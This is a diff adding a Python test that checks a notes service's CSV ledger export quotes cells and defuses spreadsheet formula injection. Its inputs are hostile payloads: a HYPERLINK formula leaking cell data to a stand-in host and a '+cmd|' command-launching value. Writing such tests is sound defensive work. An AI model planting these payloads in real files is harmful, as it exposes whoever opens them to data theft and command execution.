@@ -26,6 +26,7 @@ from tests.research.factories import (
     COMPLIANCE,
     SUPER,
     Raw,
+    create,
     is_parked,
     publish_event,
     published,
@@ -221,3 +222,32 @@ async def test_undecodable_relay_event_is_parked(research, nats_url) -> None:
     eid = await publish_event(nats_url, "branch.vip.relay.delivered", Raw(b"\xff\xff\xff"))
     assert await eventually(lambda: is_parked(nats_url, "branch.parked.research.reach", eid),
                             timeout=15)
+
+
+async def test_csv_export_quotes_and_defuses_formulas(stub, clock) -> None:
+    """Commas, quotes and line breaks stay inside their cell; text a spreadsheet would run as
+    a formula (=, +, -, @) is kept as text with a leading apostrophe."""
+    title = '=HYPERLINK("http://evil.example/?q="&A1,"Click"), "quoted", and commas'
+    n = await create(stub, title=title)
+    await stub.SubmitNote(api.SubmitNoteRequest(id=n.id), metadata=ANALYST)
+    await stub.ApproveNote(api.ApproveNoteRequest(id=n.id, comments="@SUM(1+1)\nsecond line"),
+                           metadata=COMPLIANCE)
+    await stub.PublishNote(api.PublishNoteRequest(id=n.id), metadata=ANALYST)
+    await stub.WithdrawNote(api.WithdrawNoteRequest(id=n.id, reason="+cmd|' /C calc'!A0"),
+                            metadata=ANALYST)
+    chunks = [p.csv_chunk async for p in stub.ExportDistributionLedger(
+        api.ExportDistributionLedgerRequest(
+            start_time=ts(clock.now() - timedelta(days=1)),
+            end_time=ts(clock.now() + timedelta(days=1)), note_id=n.id), metadata=SUPER)]
+    text_ = b"".join(chunks).decode()
+    rows = list(csv.reader(io.StringIO(text_)))
+    header, body = rows[0], rows[1:]
+    assert all(len(r) == len(header) for r in body)
+    by_kind = {r[header.index("kind")]: dict(zip(header, r, strict=True)) for r in body}
+    assert set(by_kind) == {"APPROVED", "PUBLISHED", "WITHDRAWN"}
+    for row in by_kind.values():
+        assert row["title"] == "'" + title  # on every row, as text
+    assert by_kind["APPROVED"]["detail"] == "'@SUM(1+1)\nsecond line"
+    assert by_kind["WITHDRAWN"]["detail"] == "'+cmd|' /C calc'!A0"
+    # no cell of the file starts a formula
+    assert not any(cell.startswith(("=", "+", "-", "@")) for r in body for cell in r)
